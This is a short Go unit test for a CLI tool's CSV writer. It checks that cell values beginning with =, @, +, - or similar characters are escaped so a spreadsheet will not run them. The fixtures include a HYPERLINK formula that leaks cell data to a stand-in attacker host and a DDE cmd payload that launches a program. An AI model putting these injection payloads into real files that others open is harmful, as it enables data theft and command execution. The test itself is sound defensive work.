package vigocmd

import (
	"bytes"
	"testing"

	"vigo.dev/pkg/cli"
)

// TestCellsAreNoFormulas: what a node says of itself runs nothing where somebody opens the table.
func TestCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	rows := [][]string{{"web-1", `=HYPERLINK("https://evil.example/?"&A1)`, "-5", "+1.5"}, {"@SUM(A1)", "-1+cmd|' /C calc'!A0", "", "＝1"}, {"a=b", "\t=1", "+", "1.0-2"}}
	if err := writeCSV(&cli.Env{Stdout: &out}, []string{"node", "a", "b", "c"}, rows); err != nil {
		t.Fatal(err)
	}
	want := "node,a,b,c\n" +
		`web-1,"'=HYPERLINK(""https://evil.example/?""&A1)",-5,+1.5` + "\n" +
		"'@SUM(A1),'-1+cmd|' /C calc'!A0,,'＝1\n" +
		"a=b,'\t=1,'+,1.0-2\n"
	if out.String() != want {
		t.Errorf("got\n%s\nwant\n%s", out.String(), want)
	}
	if rows[0][1][0] != '=' {
		t.Error("the rows of the caller were changed")
	}
}
